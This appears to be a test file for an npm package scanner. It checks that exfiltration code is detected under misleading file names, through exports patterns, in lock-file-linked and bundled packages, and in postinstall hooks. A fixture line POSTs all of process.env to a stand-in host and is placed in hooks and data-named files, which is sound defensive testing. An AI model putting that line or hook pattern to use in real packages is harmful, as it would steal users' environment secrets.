import t from 'tap'
import { judgedFacts } from '../../src/inspection/claims.ts'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import type { CatalogueManifest } from '../../src/model/artifact.ts'
import type { JudgedFacts } from '../../src/model/fact.ts'
import { packedReading } from './python-reading.ts'
import { sampleArtifact } from './sample-artifact.ts'

const SENDS = `fetch('https://c.example/', { method: 'POST', body: JSON.stringify(process.env) })\n`

type Files = Readonly<Record<string, string>>

async function judged(manifest: object, files: Files, shown: CatalogueManifest = {}): Promise<JudgedFacts> {
  const all = { 'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', ...manifest }), ...files }
  const facts = await inspect(await packedReading('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
  return judgedFacts(facts, sampleArtifact('npm-tarball', { manifest: shown }), 'verified')
}

/** Ways to a file with a name that says nothing, or another thing. */
const REACHED: readonly (readonly [situation: string, manifest: object, sends: string, files?: Files])[] = [
  ['a command with a shebang and an extension of data', { bin: 'cli.dat' }, 'cli.dat'],
  ['a command without a shebang', { bin: { a: './cli.dat' } }, 'cli.dat'],
  ['a command without an extension', { bin: { a: './cli' } }, 'cli'],
  ['a pattern of exports', { exports: { './*': './lib/*.txt' } }, 'lib/a.txt'],
  ['a pattern of exports below a condition', { exports: { './*': { node: ['./lib/*.txt'] } } }, 'lib/a.txt'],
  ['a folder of exports', { exports: { './lib/': './lib/' } }, 'lib/a.dat'],
  ['a list that is given to require', {}, 'a.txt', { 'index.js': `['./a.txt'].forEach(require)` }],
  ['a list that is mapped by require', {}, 'a.txt', { 'index.js': `['./a.txt'].map(require)` }],
  [
    'what lies in a folder',
    {},
    'lib/a.txt',
    { 'index.js': `require('fs').readdirSync(__dirname + '/lib').forEach((f) => require('./lib/' + f))` },
  ],
  ['a part that is not known', {}, 'lib/a.txt', { 'index.js': 'require(`./lib/${process.argv[2]}.txt`)' }],
  [
    'an extension that the program adds',
    {},
    'a.txt',
    { 'index.js': `require.extensions['.txt'] = require.extensions['.js']\nrequire('./a')` },
  ],
]

t.test('code is read by its content, whatever its name', async (t) => {
  for (const [situation, manifest, sends, files = {}] of REACHED) {
    const text = situation.includes('with a shebang') ? `#!/usr/bin/env node\n${SENDS}` : SENDS
    const { findings } = await judged(manifest, { 'index.js': '', [sends]: text, ...files })
    t.ok(
      findings.some(({ check }) => check === 'secrets-exfiltration'),
      situation,
    )
  }
})

t.test('what is no code is not told of', async (t) => {
  const manifest = { bin: 'cli', exports: { './*': './*' } }
  const words = 'Run fetch( to see process.env\n'
  const files = { 'index.js': `require('./' + name)`, cli: words, LICENSE: words, 'lib/a.txt': words, 'a.css': words }
  const { findings, notExamined } = await judged(manifest, files)
  t.same(
    findings.filter(({ severity }) => severity !== 'low'),
    [],
  )
  t.same(notExamined, [])
})

const LOCK = JSON.stringify({
  lockfileVersion: 3,
  packages: { '': {}, 'node_modules/a': { version: '1.0.0', resolved: 'https://files.invalid/a.tgz' } },
})

t.test('a package-lock.json counts where the registry says that there is a lock', async (t) => {
  const isLocked = { _hasShrinkwrap: true }
  const other = JSON.stringify({ packages: { 'node_modules/a': { resolved: 'https://registry.example/a.tgz' } } })
  const linked = JSON.stringify({ packages: { 'node_modules/a': { resolved: 'a', link: true } } })
  for (const [situation, files, shown, isTold] of [
    ['said', { 'package-lock.json': LOCK }, isLocked, true],
    ['not said', { 'package-lock.json': LOCK }, {}, false],
    ['of the registry itself', { 'package-lock.json': other }, isLocked, false],
    ['that links a folder', { 'package-lock.json': linked }, isLocked, true],
    ['that cannot be read', { 'package-lock.json': '{' }, isLocked, true],
    ['that cannot be read, not said', { 'package-lock.json': '{' }, {}, false],
    ['beside another one', { 'package-lock.json': LOCK, 'npm-shrinkwrap.json': other }, isLocked, false],
  ] as const) {
    const { findings, dependencies } = await judged({}, files, shown)
    t.equal(
      findings.some(({ check }) => check === 'direct-dependencies'),
      isTold,
      situation,
    )
    t.equal(
      dependencies.some(({ direct }) => direct),
      isTold,
      `${situation}: dependencies`,
    )
  }
})

/** A lock file that has a package linked. */
function lock(resolved: string): string {
  return JSON.stringify({ packages: { 'node_modules/a': { resolved, link: true } } })
}

t.test('a lock file that links', async (t) => {
  for (const [resolved, isTold] of [
    ['https://files.invalid/a.tgz', true],
    ['../a', true],
    ['/a', true],
    ['packages/a', false],
  ] as const) {
    const { findings } = await judged({}, { 'npm-shrinkwrap.json': lock(resolved) })
    t.equal(
      findings.some(({ check }) => check === 'direct-dependencies'),
      isTold,
      resolved,
    )
  }
  const hooked = { 'packages/a/package.json': '{"name":"a","scripts":{"postinstall":"node s.txt"}}' }
  const { installScripts, findings } = await judged(
    {},
    { 'npm-shrinkwrap.json': lock('packages/a'), ...hooked, 'packages/a/s.txt': SENDS },
  )
  t.same(Object.values(installScripts), ['node s.txt'])
  t.ok(findings.some(({ check }) => check === 'secrets-exfiltration'))
})

t.test('bundled packages', async (t) => {
  const inner = JSON.stringify({ name: 'in', version: '1.0.0', scripts: { postinstall: 'node s.txt' } })
  for (const folder of ['node_modules/in/', 'Node_Modules/in/', 'NODE_MODULES/in/']) {
    const { installScripts } = await judged({}, { [`${folder}package.json`]: inner, [`${folder}s.txt`]: SENDS })
    t.same(installScripts, { 'in:postinstall': 'node s.txt' }, folder)
  }
  const tool = JSON.stringify({ name: 'in', version: '1.0.0', bin: { tool: 't.dat' } })
  const { findings } = await judged(
    { scripts: { postinstall: 'tool --quiet' } },
    { 'node_modules/in/package.json': tool, 'node_modules/in/t.dat': `#!/usr/bin/env node\n${SENDS}` },
  )
  t.ok(
    findings.some(({ check, moment }) => check === 'secrets-exfiltration' && moment === 'install'),
    'a command that one brings, in a hook',
  )
})

t.test('a name or version that is no text is none that was asked for', async (t) => {
  for (const [manifest, isTold] of [
    [{}, false],
    [{ name: 'sample' }, false],
    [{ name: undefined }, false],
    [{ name: 7 }, true],
    [{ name: ['sample'] }, true],
    [{ version: 1 }, true],
    [{ version: { a: 1 } }, true],
  ] as const) {
    const { findings } = await judged(manifest, {})
    t.equal(
      findings.some(({ check, severity }) => check === 'manifest-mismatch' && severity === 'high'),
      isTold,
      JSON.stringify(manifest),
    )
  }
})
